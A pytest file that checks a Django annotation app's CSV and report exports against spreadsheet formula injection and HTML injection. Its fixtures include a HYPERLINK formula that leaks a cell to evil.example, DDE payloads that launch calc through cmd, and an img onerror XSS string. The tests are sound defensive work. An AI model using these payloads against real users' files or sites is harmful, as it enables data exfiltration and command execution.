"""Every CSV the app writes is data, never a formula (annotation/csv_cells.py): a cell that
begins with = + - @, a tab or a carriage return gets a leading apostrophe, in the gold and
raw exports (the command and the export job's download), the report's CSV and the list of
an import's rejected records; numbers the app computed stay numbers."""

from __future__ import annotations

import csv
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from annotation import exports
from annotation.csv_cells import FORMULA_STARTS, neutralise
from annotation.models import CardState
from annotation.tasks import write_rejected
from tests.factories import label, make_conversation, make_group, make_study, make_user, types_of

AMBIGUOUS, ROLLBACK = "ambiguous_instruction", "code_rollback"
# one payload per formula start a spreadsheet knows
GROUP = '=HYPERLINK("http://evil.example/?"&A1,"open")'
USER = "+cmd|' /C calc'!A0"
MODERATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
CONVERSATION = "-2+3+cmd|' /C calc'!A0"
NOTE = "\t=1+2"
RATIONALE = "\r=1+2"


def formula_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would evaluate: any that begin with a formula character but
    the app's own "-" (the empty label set) and the numbers the app computed."""
    found = []
    for row in rows:
        for cell in row:
            if not cell.startswith(FORMULA_STARTS) or cell == "-":
                continue
            try:
                float(cell)
            except ValueError:
                found.append(cell)
    return found


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


# -- the rule -------------------------------------------------------------------------------


@given(st.text())
def test_a_cell_never_begins_like_a_formula_and_keeps_its_text(text):
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)


@given(st.text(alphabet="=+-@\t\r\n'a1 ,\"", max_size=12))
def test_a_written_row_reads_back_neutralised(text):
    # the csv module's quoting keeps a comma, quote or newline in the cell: nothing after
    # them starts a new cell that could be a formula
    buf = io.StringIO(newline="")
    exports_writer = csv.writer(buf)
    exports_writer.writerow([neutralise(text), "x"])
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row == [neutralise(text), "x"] and formula_cells([row]) == []


@pytest.mark.parametrize("number", [-0.25, -1, 3, 0.5714285714285714])
def test_a_computed_number_stays_a_number(number):
    assert neutralise(number) == number


def test_ordinary_text_passes_unchanged():
    assert neutralise("vague ask") == "vague ask"
    assert neutralise("a=b") == "a=b"
    assert neutralise("") == ""


# -- the exports ----------------------------------------------------------------------------


@pytest.fixture
def hostile(db):
    """A study whose names are formulas: the group, an annotator (as import_annotations
    --create-members would create one), the moderator, a conversation id, a note, a
    rationale."""
    study = make_study()
    annotator, bob = make_user(USER), make_user("bob")
    group = make_group(study, GROUP, [annotator, bob], moderator=make_user(MODERATOR))
    turn = make_conversation(study, CONVERSATION, n_turns=1, group=group).turns.get()
    label(turn, annotator, ROLLBACK, note=NOTE, evidence="-x")
    label(turn, bob)
    label(turn, annotator, ROLLBACK, round=2)
    label(turn, bob, AMBIGUOUS, round=2)
    CardState.decide(turn, group, group.moderator, types_of(study, ROLLBACK), RATIONALE)
    return study


def test_the_gold_csv_neutralises_every_name(tmp_path, hostile):
    out = StringIO()
    call_command("export_gold", "s1", "--format", "csv", "--output", str(tmp_path / "g.csv"),
                 "--with-text", stdout=out)  # fmt: skip
    rows = read_csv(tmp_path / "g.csv")
    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert f"labels_{USER}" in header
    assert row["group"] == "'" + GROUP
    assert row["conversation"] == "'" + CONVERSATION
    assert row["decided_by"] == "'" + MODERATOR
    assert row["rationale"] == "'" + RATIONALE
    assert row["labels_bob"] == "-"  # "no smell": the app's marker, no formula
    assert row["turn"] == "1"
    assert formula_cells(rows) == []


def test_the_raw_csv_neutralises_names_notes_and_evidence(tmp_path, hostile):
    exports.write_raw(hostile, tmp_path / "raw.csv", "csv", round=1)
    rows = read_csv(tmp_path / "raw.csv")
    by_user = {r[rows[0].index("annotator")]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    mine = by_user["'" + USER]
    assert (mine["group"], mine["note"], mine["evidence"]) == ("'" + GROUP, "'" + NOTE, "'-x")
    assert formula_cells(rows) == []


def test_a_header_cell_is_neutralised(tmp_path, db):
    from annotation.exports.writers import write

    write([[{"-x": "=1", "n": -2}]], ["-x", "n"], tmp_path / "t.csv", "csv", None)
    assert read_csv(tmp_path / "t.csv") == [["'-x", "n"], ["'=1", "-2"]]


def test_the_export_jobs_download_is_neutralised(client, hostile, settings, tmp_path):
    from annotation.models import Job, JobKind, JobStatus, Role
    from annotation.tasks import run_export

    settings.MEDIA_ROOT = str(tmp_path)
    lead = make_user("lead")
    hostile.add_member(lead, Role.LEAD)
    job = Job.objects.create(study=hostile, kind=JobKind.EXPORT, created_by=lead,
                             params={"format": "csv", "raw": True})  # fmt: skip
    run_export(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE, job.error
    client.force_login(lead)
    response = client.get(f"/s/s1/jobs/{job.pk}/download/")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert any(cell == "'" + GROUP for cell in rows[1])
    assert formula_cells(rows) == []


def test_the_rejected_records_file_neutralises_each_line(tmp_path, settings, db):
    settings.MEDIA_ROOT = str(tmp_path)

    class Job:
        pk = 7

    relative = write_rejected(Job, ["=cmd|' /C calc'!A0.jsonl:1: bad", "ok.jsonl:2: @x"])
    lines = (tmp_path / relative).read_text(encoding="utf-8").splitlines()
    assert lines == ["'=cmd|' /C calc'!A0.jsonl:1: bad", "ok.jsonl:2: @x"]


def test_the_report_downloads_neutralise_and_escape_hostile_names(client, study, lead):
    from django.contrib.auth import get_user_model

    from annotation.models import Group
    from tests.report.helpers import labelled_study, make_report_job

    labelled_study(study)
    Group.objects.filter(name="G1").update(name=GROUP + "<img src=x onerror=alert(1)>")
    # make_report_job builds the result from names (stats' DataFrame path, where a "|" is
    # refused); a study's own report keys pairs by ids (tests/report/test_pair_keys.py)
    get_user_model().objects.filter(username="alice").update(username="+SUM(1+1)")
    make_report_job(study)
    client.force_login(lead)
    text = client.get(reverse("report_download", args=["s1", "csv"])).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[2] for row in rows}
    assert "'" + GROUP + "<img src=x onerror=alert(1)>" in names
    assert any(n.startswith("'+SUM(1+1)") for n in names)  # a pair with alice's new name
    assert formula_cells(rows) == []
    md = client.get(reverse("report_download", args=["s1", "md"])).content.decode()
    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
